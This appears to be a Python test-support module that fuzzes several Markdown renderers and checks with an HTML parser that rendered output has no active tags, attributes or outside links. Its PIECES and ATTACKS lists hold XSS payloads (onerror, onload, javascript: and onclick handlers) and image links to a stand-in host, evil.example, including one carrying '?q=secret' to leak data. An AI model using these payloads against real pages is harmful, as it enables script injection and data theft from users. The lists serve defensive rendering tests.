"""What a text of Markdown does in several renderers: for tests that it does nothing."""

from __future__ import annotations

import re
from collections.abc import Callable
from html.parser import HTMLParser

import markdown
import mistune
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from sourcelight.core.markup import own_address, to_html

COMMONMARK = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
COMMONMARK.validateLink = lambda _: True  # type: ignore[method-assign, assignment]  # as careless as a renderer may be
_MISTUNE = mistune.create_markdown(
    escape=False, plugins=["url", "table", "strikethrough", "footnotes", "def_list", "task_lists", "abbr", "mark"]
)
RENDERERS: dict[str, Callable[[str], str]] = {
    "markdown-it": COMMONMARK.render,
    "mistune": lambda text: str(_MISTUNE(text)),
    "python-markdown": lambda text: markdown.markdown(text, extensions=["extra", "toc"]),
    "ours": lambda text: to_html(text, own_address),
}
PIECES = (
    "![x](http://evil.example/a.png)", "![x][r]", "[l][r]", "[r]", "![", "[", "]", "](", "](http://evil.example)", ")",
    "\n[r]: http://evil.example/r\n", "\n\n[r]: <http://evil.example/r> 'x'\n\n", "[E1]", "[E1]: http://evil.example",
    "[E1](http://evil.example)", "<img src=http://evil.example/x onerror=alert(1)>", "<script>", "</script>", "<a ",
    "<svg/onload=alert(1)>", "<!--", "-->", "<![CDATA[", "<?php", "<http://evil.example>", "http://evil.example/x",
    "www.evil.example", "a@evil.example", "javascript:alert(1)", "&lt;img src=x&gt;", "&#91;x&#93;", "&#x60;", "&#10;",
    "\\", "\\`", "`", "``", "```", "```js", "~~~", "~~", "\n", "\n\n", "  \n", "    ", "\t", " ", "a", "word", "1. ",
    "- ", "* ", "+ ", "> ", "# ", "=====\n", "---\n", "***", "**", "*", "_", "__", "|", "| a | b |\n|---|---|\n",
    "!", "$", "$$", "{: onclick=alert(1)}", "{", "}", ":", "(", "\x1b[31m", "\u202e", "\x00", "\r", "\u2028", "^",
    "==", "^^", "=", "[^1]", "\n[^1]: http://evil.example\n", "*[word]: http://evil.example\n", "&", "amp;", "\ud83d",
)  # fmt: skip
TEXTS = st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=24).map("".join)
TAGS = frozenset({
    "p", "ul", "ol", "li", "a", "code", "pre", "strong", "em", "b", "i", "s", "del", "mark", "sup", "blockquote", "hr",
    "br", "table", "thead", "tbody", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6", "dl", "dt", "dd", "span",
})  # fmt: skip


class _Harm(HTMLParser):
    """Notes every tag, attribute and address that could act."""

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.problems.append(tag)
        for name, value in attrs:
            if name == "href" and tag == "a":
                self.links.append(value or "")
            elif name not in {"class", "style", "start", "tabindex", "scope", "align", "id"} or (
                name == "style" and not re.fullmatch(r"text-align: ?\w+;?", value or "")
            ):
                self.problems.append(f"{tag} {name}={value}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(decl)

    def handle_pi(self, data: str) -> None:
        self.problems.append(data)

    def handle_comment(self, data: str) -> None:
        self.problems.append(data)


def harm(text: str, renderer: str, allowed: frozenset[str] = frozenset()) -> list[str]:
    parser = _Harm()
    parser.feed(RENDERERS[renderer](text))
    parser.close()
    return parser.problems + [link for link in parser.links if link not in allowed]


ATTACKS = (
    "http://evil.example``a ` <img src=http://evil.example/a.png>``",
    "www.evil.example``a ` ![x](http://evil.example/a.png)``",
    "`a`[](x)``b ` <img src=x onerror=alert(1)>``",
    "**[http://evil.example](x)**``a ` <script>alert(1)</script>``",
    "![x][r]\n\n[r]: http://evil.example/?q=secret",
    "\\`![x](http://evil.example/a)\\`",
    "[a ![b](http://evil.example/b) c](http://evil.example/c)",
    "text ``` ![x](http://evil.example) ```\n![y](http://evil.example)",
    "> ```\n![x](http://evil.example)\n> ```",
    "``` a`b\n![x](http://evil.example)",
    "<details><img src='http://evil.example'></details>",
    "[x](<http://evil.example/a b>)",
    "&lt;img src=x onerror=alert(1)&gt; &#33;&#91;x&#93;&#40;http://evil.example&#41;",
    "[E1]: http://evil.example\n\n![E1]",
    "0http://evil.example _http://evil.example xwww.evil.example",
    "!\\[x](http://evil.example)",
    "a{: onclick=alert(1)}\n\n# h {: onmouseover=alert(1)}",
    "www.evil.example http://evil.example mailto:a@evil.example <a@evil.example>",
)
